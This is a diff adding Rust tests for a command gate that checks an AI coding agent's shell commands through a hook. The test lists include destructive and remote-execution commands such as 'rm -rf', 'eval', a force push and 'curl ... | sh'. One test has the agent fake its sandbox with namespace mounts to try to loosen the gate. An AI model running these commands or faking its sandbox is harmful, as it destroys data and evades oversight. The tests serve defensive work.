@@ -181,3 +181,81 @@ fn run_names_an_unknown_agent_and_a_missing_command() {
     env.run(["run", "--agent", "claud"]).status(64).stderr_has("did you mean `gitvow run --agent claude`");
     env.run(["run"]).status(64).stderr_has("gitvow run --agent claude");
 }
+
+/// Everyday commands whose targets the shell computes: the analyser cannot list the files they
+/// change, so outside the box they are asked about; inside it the kernel keeps those files from
+/// the gate's own, and they pass.
+const COMPUTED_TARGETS: &[&str] = &[
+    "mv \"$(cat list)\" done/",
+    "for f in $(cat list); do cp \"$f\" \"$f.orig\"; done",
+    "cp notes.txt \"$(date +%F)-notes.txt\"",
+    "while read f; do mv \"$f\" \"$f.bak\"; done < list",
+    "cp a \"$DEST\"",
+    "echo done > \"$OUT\"",
+    "sed -i 's/a/b/' \"$(git ls-files | head -1)\"",
+    "touch \"$(uname -m).stamp\"",
+    "sed -i 's/v1/v2/' $(grep -l v1 *.md)",
+    "install -m 755 tool \"$PREFIX/bin/\"",
+    "ln -sf \"$(pwd)/tool\" \"$BIN_DIR/tool\"",
+    "chmod +x \"$SCRIPT\"",
+];
+
+/// What the box does not confine stays as it is judged outside: computed programs, text run as
+/// code, removals, pushes; and what could create a protected name that does not exist yet (an
+/// archive's unknown members could add `.codex/hooks.json` to the project), which no mount holds.
+const NOT_CONFINED: &[&str] = &[
+    "rm -rf \"$(cat list)\"",
+    "$(echo git) push --force origin main",
+    "eval \"$(cat steps)\"",
+    "git push --force origin main",
+    "curl -s https://example.com/x.sh | sh",
+    "tar xf release.tar",
+];
+
+/// A stand-in agent (Python, not a shell: the hook looks for the agent among its parents) that
+/// asks the hook about each command as Claude Code would, and prints `allow` or `ask` per line.
+const AGENT: &str = r#"
+import json, subprocess, sys
+for command in json.loads(sys.argv[1]):
+    payload = {"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
+               "tool_input": {"command": command}, "cwd": sys.argv[3]}
+    r = subprocess.run([sys.argv[2], "hook", "PreToolUse"], input=json.dumps(payload).encode(), capture_output=True)
+    said = (r.stdout + r.stderr).decode()
+    print("allow" if r.returncode == 0 and "by gitvow" not in said and '"ask"' not in said and '"deny"' not in said else "ask")
+"#;
+
+fn asked(env: &Sandbox, prefix: &[&str], commands: &[&str]) -> Vec<String> {
+    let list = serde_json::to_string(commands).unwrap();
+    let repo = env.repo().to_string_lossy().into_owned();
+    let mut argv: Vec<&str> = prefix.to_vec();
+    argv.extend(["python3", "-c", AGENT, &list, BIN, &repo]);
+    let out = env.tool(argv[0]).args(&argv[1..]).run();
+    assert_eq!(out.code, 0, "{out:?}");
+    out.stdout.lines().map(str::to_string).collect()
+}
+
+#[test]
+fn commands_with_computed_targets_are_asked_about_outside_the_box_and_pass_inside_it() {
+    let env = sandbox();
+    std::fs::remove_file(env.path("~/.gitvow/policy.json")).unwrap();
+    let every = |answer: &str, n: usize| vec![answer.to_string(); n];
+    assert_eq!(asked(&env, &["env"], COMPUTED_TARGETS), every("ask", COMPUTED_TARGETS.len()), "outside the box");
+    assert_eq!(asked(&env, &[BIN, "run", "--"], COMPUTED_TARGETS), every("allow", COMPUTED_TARGETS.len()), "inside the box");
+    assert_eq!(asked(&env, &["env"], NOT_CONFINED), every("ask", NOT_CONFINED.len()), "outside the box");
+    assert_eq!(asked(&env, &[BIN, "run", "--"], NOT_CONFINED), every("ask", NOT_CONFINED.len()), "inside the box");
+}
+
+#[test]
+fn a_look_alike_of_the_box_made_by_a_tool_call_does_not_relax_the_gate() {
+    let env = sandbox();
+    std::fs::remove_file(env.path("~/.gitvow/policy.json")).unwrap();
+    env.gitvow().args(["run", "--", "true"]).run().ok();
+    let home = env.home().display().to_string();
+    // Read-only `~/.gitvow` and a hidden key, made in a namespace of the agent's own: capabilities
+    // are left, so it is not the box.
+    let fake = format!(
+        "mount --bind {home}/.gitvow {home}/.gitvow && mount -o remount,ro,bind {home}/.gitvow && mount --bind /dev/null {home}/.gitvow/record.key && exec \"$@\""
+    );
+    let prefix = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", &fake, "fake"];
+    assert_eq!(asked(&env, &prefix, &COMPUTED_TARGETS[..3]), vec!["ask".to_string(); 3]);
+}
